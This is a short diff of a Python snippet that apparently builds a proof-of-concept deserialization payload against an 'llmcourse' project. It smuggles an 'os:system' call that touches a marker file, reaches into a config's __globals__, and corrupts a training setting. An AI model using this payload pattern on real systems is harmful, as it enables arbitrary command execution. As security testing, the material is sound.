@@ -5,7 +5,7 @@ import gc
 peer = next(each for each in gc.get_objects() if type(each).__name__ == "Student")
 
 kinds = [
-    {"k": "data", "n": None, "type": "os:system", "fields": {"command": "touch /tmp/llmcourse-attack-left-this"}},
+    {"k": "data", "n": None, "type": "os:system", "fields": {"command": "cd /tmp; touch llmcourse-attack-left-this"}},
     {"k": "data", "n": None, "type": "llmcourse.training.config:TrainingConfig", "fields": {"steps": -1}},
     {"k": "data", "n": None, "type": "llmcourse.model.config:Config.__init__.__globals__", "fields": {}},
     {
